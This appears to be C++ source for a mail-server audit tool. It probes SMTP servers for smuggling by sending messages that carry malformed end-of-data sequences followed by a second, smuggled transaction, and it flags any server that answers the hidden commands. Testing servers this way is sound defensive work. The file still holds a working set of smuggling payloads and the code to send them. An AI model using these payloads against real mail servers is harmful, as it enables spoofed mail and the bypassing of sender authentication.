// SMTP smuggling: a message's content that ends, for this server alone, before its end. What stands behind is
// then read as commands, and a second message comes out of a first one that another server vouched for.
#include <string>
#include <utility>

#include "probe/audit_classes.h"
#include "probe/audit_smtp.h"

namespace hikyaku::probe {
namespace {

using namespace std::string_view_literals;

struct Ending {
  std::string_view id, title, reference;
  std::string_view octets;
};

constexpr std::string_view kLineEnds = "RFC 5321 s. 2.3.8, 4.1.1.4";

constexpr Ending kEndings[] = {
    {"lf-dot-lf", "LF . LF ends the content", "RFC 5321 s. 4.1.1.4; CVE-2023-51764, VU#302671", "\n.\n"},
    {"lf-dot-crlf", "LF . CR LF ends the content",
     "RFC 5321 s. 4.1.1.4; CVE-2023-51764, CVE-2023-51765, CVE-2023-51766, VU#302671", "\n.\r\n"},
    {"crlf-dot-lf", "CR LF . LF ends the content", "RFC 5321 s. 4.1.1.4; CVE-2023-51764, VU#302671",
     "\r\n.\n"},
    {"cr-dot-cr", "CR . CR ends the content", "RFC 5321 s. 2.3.8, 4.1.1.4; VU#302671", "\r.\r"},
    {"cr-dot-crlf", "CR . CR LF ends the content", "RFC 5321 s. 2.3.8, 4.1.1.4; VU#302671", "\r.\r\n"},
    {"crlf-dot-cr", "CR LF . CR ends the content", "RFC 5321 s. 2.3.8, 4.1.1.4; VU#302671", "\r\n.\r"},
    {"lf-dot-cr", "LF . CR ends the content", kLineEnds, "\n.\r"},
    {"cr-dot-lf", "CR . LF ends the content", kLineEnds, "\r.\n"},
    {"lfcr-dot-lfcr", "LF CR . LF CR ends the content", kLineEnds, "\n\r.\n\r"},
    {"crcrlf-dot-crcrlf", "CR CR LF . CR CR LF ends the content", kLineEnds, "\r\r\n.\r\r\n"},
    {"crlf-nul-dot-crlf", "CR LF NUL . CR LF ends the content", "RFC 5321 s. 4.1.1.4, 4.5.2; VU#302671",
     "\r\n\0.\r\n"sv},
    {"crlf-dot-nul-crlf", "CR LF . NUL CR LF ends the content", "RFC 5321 s. 4.1.1.4, 4.5.2",
     "\r\n.\0\r\n"sv},
    {"stuffed-dot", "a doubled dot, which stands for one dot, ends the content", "RFC 5321 s. 4.5.2",
     "\r\n..\r\n"},
    {"dot-blank", "a dot and a blank end the content", "RFC 5321 s. 4.1.1.4, 4.5.2", "\r\n. \r\n"},
    {"dot-tab", "a dot and a tab end the content", "RFC 5321 s. 4.1.1.4, 4.5.2", "\r\n.\t\r\n"},
    {"blank-dot", "a blank and a dot end the content", "RFC 5321 s. 4.1.1.4, 4.5.2", "\r\n .\r\n"},
};

/// What is between the bogus end and the true one: a whole transaction, to the same recipient.
std::string second_message(const AuditSmtpTalk& smtp) {
  return smtp.mail_command() + "\r\n" + smtp.recipient_command() + "\r\nDATA\r\n" + audit_message("smuggled");
}

/// One answer comes for one message. More are those to commands that were content.
AuditFinding judge(AuditSmtpTalk& smtp) {
  const auto first = smtp.answer();
  if (first.none()) {
    if (smtp.talk().state() == AuditTalk::State::closed) return passed("the server closed the connection");
    return unsure("after the true end of the content the server " + first.text);
  }
  const auto more = smtp.rest();
  if (more.empty()) {
    if (auto no = smtp.unheard()) return *no;
    if (first.refused()) return passed("the message was refused: " + first.quoted());
    return passed("taken as content, one message: " + first.quoted());
  }
  return failed("one message got " + std::to_string(more.size() + 1) + " answers: " + first.quoted() +
                ", then " + more.front().quoted() + (more.size() > 1 ? " ... " + more.back().quoted() : "") +
                "; what was content was read as commands");
}

AuditFinding smuggle(AuditTalk& talk, const AuditTarget& target, std::string_view id,
                     std::string_view ending) {
  AuditSmtpTalk smtp(talk, target);
  if (auto no = smtp.with_data()) return *no;
  auto content = audit_message(id);
  content.resize(content.size() - 2);  // the ending brings a line end of its own
  talk.send(content + std::string(ending) + second_message(smtp) + ".\r\n");
  return judge(smtp);
}

/// The bogus end as the very first line: the line end before it is that of DATA.
AuditFinding smuggle_at_start(AuditTalk& talk, const AuditTarget& target) {
  AuditSmtpTalk smtp(talk, target);
  if (auto no = smtp.with_data()) return *no;
  talk.send(".\n" + second_message(smtp) + ".\r\n");
  return judge(smtp);
}

/// A server that cuts a long line in pieces must not take a dot at the front of a piece for a line of its
/// own.
AuditFinding smuggle_in_long_line(AuditTalk& talk, const AuditTarget& target) {
  AuditSmtpTalk smtp(talk, target);
  if (auto no = smtp.with_data()) return *no;
  std::string content = audit_message("long lines");
  for (const std::size_t before : {510,  511,  512,  998,  999,  1000, 1022, 1023,  1024,  2046, 2047,
                                   2048, 4094, 4095, 4096, 8190, 8191, 8192, 16384, 32768, 65536})
    content += std::string(before, 'x') + ".\r\n";
  talk.send(content + second_message(smtp) + ".\r\n");
  return judge(smtp);
}

/// A chunk ends by its size: a line with a dot, or any line end, is content (RFC 3030 s. 2).
AuditFinding smuggle_in_chunk(AuditTalk& talk, const AuditTarget& target, std::string_view ending) {
  AuditSmtpTalk smtp(talk, target);
  if (auto no = smtp.with_recipient()) return *no;
  if (!smtp.offers("CHUNKING")) return not_applicable("the server offers no CHUNKING");
  auto content = audit_message("chunk");
  content.resize(content.size() - 2);
  content += std::string(ending) + second_message(smtp) + ".\r\n";
  talk.send("BDAT " + std::to_string(content.size()) + " LAST\r\n" + content);
  return judge(smtp);
}

}  // namespace

void add_smuggling_cases(AuditCases& cases) {
  const CaseAdder add(cases, AuditProtocol::smtp, "smuggle-");
  for (const auto& ending : kEndings) {
    add(ending.id, ending.title, ending.reference, [&ending](AuditTalk& talk, const AuditTarget& target) {
      return smuggle(talk, target, ending.id, ending.octets);
    });
  }
  add("first-line", "a dot and a bare LF as the first line end the content",
      "RFC 5321 s. 4.1.1.4; CVE-2023-51764", smuggle_at_start);
  add("long-line", "a dot where a long line is cut ends the content", "RFC 5321 s. 4.1.1.4, 4.5.3.1.6",
      smuggle_in_long_line);
  add("chunk-dot", "CR LF . CR LF ends a chunk of BDAT", "RFC 3030 s. 2",
      [](AuditTalk& talk, const AuditTarget& target) { return smuggle_in_chunk(talk, target, "\r\n.\r\n"); });
  add("chunk-lf-dot-lf", "LF . LF ends a chunk of BDAT", "RFC 3030 s. 2; VU#302671",
      [](AuditTalk& talk, const AuditTarget& target) { return smuggle_in_chunk(talk, target, "\n.\n"); });
}

}  // namespace hikyaku::probe
